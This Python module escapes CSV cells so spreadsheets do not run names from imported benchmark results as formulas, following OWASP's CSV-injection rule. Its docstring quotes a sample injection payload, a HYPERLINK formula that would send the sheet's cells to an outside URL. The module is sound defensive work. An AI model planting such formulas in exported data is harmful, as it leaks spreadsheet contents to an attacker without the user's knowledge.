"""CSV cells that a spreadsheet would run as a formula are neutralised (OWASP's CSV-injection rule).

Run names, model names and task names reach our CSVs from files we did not write (an imported
OpenCompass summary, an lm-eval results JSON, a ``--labels`` value). A text cell that starts with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return is evaluated by Excel, LibreOffice and Google
Sheets when the CSV is opened, so ``=HYPERLINK("http://…"&A1;"click")`` as a model name would leak
the sheet's cells. OWASP's fix: prefix such a cell with a single quote, which every spreadsheet
shows as text. Only CSV is written this way; JSON and Parquet keep the value as it was.

A carriage return inside a cell is a row break to a spreadsheet, so ``"x\r=1+1"`` written bare would
start a new row with a live formula; the writers here quote every cell that holds one (the csv module
and pandas quote only cells holding the line terminator, ``\n``).

Numbers are never touched (``-0.05`` stays a number), and a text cell that is just a number written
as text (``"-3"``, ``"+1.5e-3"``) is not a formula either, so it stays as it is.
"""

from __future__ import annotations

import re
from typing import Any

#: The first characters that make a spreadsheet evaluate a cell (OWASP).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """``value``, with a leading ``'`` if it is text that a spreadsheet would evaluate."""
    if not isinstance(value, str) or not value.startswith(FORMULA_TRIGGERS):
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


def safe_frame(frame: Any) -> Any:
    """A copy of the pandas ``frame`` with every text cell and column name passed through :func:`safe_cell`.

    Number, boolean and date columns are left alone (their cells are not text); every other column
    (object, pandas' ``str``/``string``, category) is mapped cell by cell.
    """
    out = frame.copy()
    for col in out.columns:
        if out[col].dtype.kind not in "biufcmM":
            out[col] = out[col].map(safe_cell, na_action="ignore")
    out.columns = [safe_cell(c) if isinstance(c, str) else c for c in out.columns]
    return out


def frame_to_csv(frame: Any) -> str:
    """``frame`` (pandas) as CSV text: cells passed through :func:`safe_cell`, a cell holding ``\r`` quoted."""
    return lf_rows(safe_frame(frame).to_csv(index=False, lineterminator="\r\n"))


def lf_rows(text: str) -> str:
    """CSV ``text`` written with ``\r\n`` row ends (so that every cell holding ``\r`` was quoted), with
    its row ends (outside quotes) turned back into ``\n``, the line end cfbench's CSVs have always had."""
    out, quoted, i = [], False, 0
    while i < len(text):
        ch = text[i]
        if ch == '"':
            quoted = not quoted
        if not quoted and text.startswith("\r\n", i):
            out.append("\n")
            i += 2
            continue
        out.append(ch)
        i += 1
    return "".join(out)
